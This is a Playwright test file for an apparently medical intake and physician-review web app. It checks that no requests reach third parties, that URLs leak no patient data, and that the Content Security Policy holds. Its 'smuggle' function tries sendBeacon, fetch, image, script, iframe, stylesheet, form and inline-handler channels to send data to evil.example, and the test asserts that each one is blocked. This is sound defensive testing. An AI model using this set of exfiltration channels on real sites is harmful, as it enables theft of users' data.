/** From the first page to the review: no request goes to a third party, and no URL contains personal data. */
import type { BrowserContext } from '@playwright/test';
import { ROSA } from '../../testing/browser/answers.ts';
import { completeStep, confirmUnusual, patientWith, stepsOf } from '../../testing/browser/patient.ts';
import { mainLink, queueRows } from '../../testing/browser/queue.ts';
import { authenticate, signIn } from '../../testing/browser/staff.ts';
import { expect, test } from '../../testing/browser/test.ts';

test.use({ serviceWorkers: 'allow' });

/** Covers requests of the whole context, including workers and beacons. */
function addressesOf(context: BrowserContext): string[] {
  const asked: string[] = [];
  context.on('request', (request) => asked.push(request.url()));
  return asked;
}

const expectNoPersonalData = (addresses: readonly string[], origin: string | undefined): void => {
  expect(addresses.length).toBeGreaterThan(10);
  const foreign = addresses.filter((url) => !/^(data|blob):/.test(url) && new URL(url).origin !== origin);
  expect(foreign).toEqual([]);
  // Ids and the hashes in the names of built files may contain any digits.
  const said = addresses
    .filter((url) => !/^(data|blob):/.test(url) && !url.includes('/assets/'))
    .map((url) => url.toLowerCase().replace(/[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}/g, ''));
  for (const canary of ['rosa', 'garc', '214', '212.4', encodeURIComponent('@')]) {
    expect(
      said.filter((url) => url.includes(canary)),
      canary,
    ).toEqual([]);
  }
};

test('a whole intake and its review send requests to the clinic only', async ({ browser, baseURL }) => {
  const rosa = patientWith(ROSA, 'en');
  const phone = await browser.newContext({ viewport: { width: 390, height: 844 }, locale: 'en-US' });
  const fromPhone = addressesOf(phone);
  const page = await phone.newPage();
  await page.goto('/');
  await page.goto('/intake');
  await page.getByRole('button', { name: 'Start' }).click();
  for (const step of stepsOf(rosa)) {
    await expect(page.getByRole('heading', { level: 1 })).toBeFocused();
    await completeStep(page, rosa, step);
    if (step.id === 'measurements') await confirmUnusual(page, rosa);
  }
  await page.getByRole('button', { name: 'Submit Application' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'We have your answers' })).toBeVisible();
  expectNoPersonalData(fromPhone, baseURL);
  await phone.close();

  const laptop = await browser.newContext({ viewport: { width: 1280, height: 800 }, locale: 'en-US' });
  const fromLaptop = addressesOf(laptop);
  const desk = await laptop.newPage();
  await signIn(desk, 'physician');
  await desk.getByPlaceholder('Search by patient name or email...').fill("o'neil-garc");
  await mainLink(queueRows(desk).filter({ hasText: 'GLP-1 Contraindication' }).first()).click();
  await expect(desk.getByRole('heading', { name: 'Patient Submission Review' })).toBeVisible();
  await desk.getByRole('tab', { name: /Health Flags/ }).click();
  await desk.getByRole('tab', { name: /Review Notes/ }).click();
  expectNoPersonalData(fromLaptop, baseURL);
  await laptop.close();
});

test('injected content of a page sends nothing to others', async ({ page }) => {
  const reached: string[] = [];
  await page.context().route('https://evil.example/**', (route) => {
    reached.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  await page.goto('/intake');
  await expect(page.getByRole('button', { name: 'Start' })).toBeVisible();
  const { blocked, ran } = await page.evaluate(smuggle);
  expect(new Set(blocked)).toEqual(
    new Set([
      'connect-src',
      'img-src',
      'script-src-elem',
      'script-src-attr',
      'style-src-elem',
      'form-action',
      'frame-src',
    ]),
  );
  expect(reached).toEqual([]);
  expect(ran).toBe(false);
});

test('no page asks for anything that its own policy forbids', async ({ page }) => {
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      document.documentElement.dataset.forbidden = `${violatedDirective} ${blockedURI}`;
    });
  });
  const expectNothingForbidden = async (path: string, name: string | RegExp): Promise<void> => {
    await page.goto(path);
    await expect(page.getByRole('button', { name }).first()).toBeVisible();
    await page.evaluate(() => new Promise((done) => requestIdleCallback(done)));
    await expect(page.locator('html'), path).not.toHaveAttribute('data-forbidden');
  };
  await expectNothingForbidden('/', 'Sign In');
  await expectNothingForbidden('/intake/weight-loss-intake', 'Start');
  await page.getByRole('button', { name: 'Start', exact: true }).click();
  await page.getByRole('button', { name: 'Continue', exact: true }).click();
  await expect(page.getByRole('alert').first()).toBeVisible();
  await expect(page.locator('html')).not.toHaveAttribute('data-forbidden');
  await expectNothingForbidden('/sign-in', 'Send Magic Link');
  await authenticate(page, 'physician');
  await expectNothingForbidden('/physician', 'Export Data');
  await expect(mainLink(queueRows(page).first())).toBeVisible();
  await expect(page.locator('html')).not.toHaveAttribute('data-forbidden');
});

/** Runs in the page: tries every way to send data out. Resolves to the CSP directives that blocked them. */
async function smuggle(): Promise<{ blocked: string[]; ran: boolean }> {
  const blocked: string[] = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
    blocked.push(effectiveDirective);
  });
  const evil = 'https://evil.example/?stolen=1';
  const add = <Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    properties: Partial<HTMLElementTagNameMap[Name]>,
  ) => document.body.append(Object.assign(document.createElement(name), properties));
  navigator.sendBeacon(evil, 'answers');
  await fetch(evil).catch(() => undefined);
  add('img', { src: evil });
  add('script', { src: evil });
  add('script', { text: 'document.documentElement.dataset.ran = "1"' });
  add('link', { rel: 'stylesheet', href: evil });
  add('iframe', { src: evil });
  const button = document.createElement('button');
  button.setAttribute('onclick', 'document.documentElement.dataset.ran = "1"');
  button.click();
  const form = Object.assign(document.createElement('form'), { action: evil, method: 'post' });
  document.body.append(form);
  form.submit();
  // Violations are reported in separate tasks.
  const enough = () => new Set(blocked).size >= 7;
  for (let turn = 0; turn < 500 && !enough(); turn += 1) {
    await new Promise((resolve) => requestAnimationFrame(resolve));
  }
  return { blocked, ran: document.documentElement.dataset.ran !== undefined };
}
